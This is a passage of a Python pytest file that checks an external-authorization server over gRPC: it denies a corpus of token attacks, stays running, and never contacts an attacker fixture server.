    "claim_with_lone_surrogate",
}  # fmt: skip


@pytest.fixture(scope="module")
def server(kit: Kit, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ExtauthzProcess]:
    config = corpus_config({"type": "STATIC_KEYS", "keys": [kit.rsa.public_jwk, kit.ec.public_jwk]})
    with server_process(config, tmp_path_factory.mktemp("attacks")) as proc:
        yield proc


def test_every_grpc_case_names_a_corpus_case() -> None:
    assert {a.id for a in ATTACKS} >= OVER_GRPC


@pytest.mark.parametrize("attack", params([a for a in ATTACKS if a.id in OVER_GRPC]))
def test_attack_is_denied_by_the_server_over_grpc(attack: Attack, kit: Kit, server: ExtauthzProcess,
                                                  attacker: AttackerServer) -> None:
    resp = server.send(attack.make(kit).check_request())
    assert resp.status.code != 0 and not resp.HasField("ok_response"), f"{attack.id} was ALLOWED"
    assert_denied(resp, attack.reason)
    assert server.proc is not None and server.proc.poll() is None
    assert attacker.hits == []
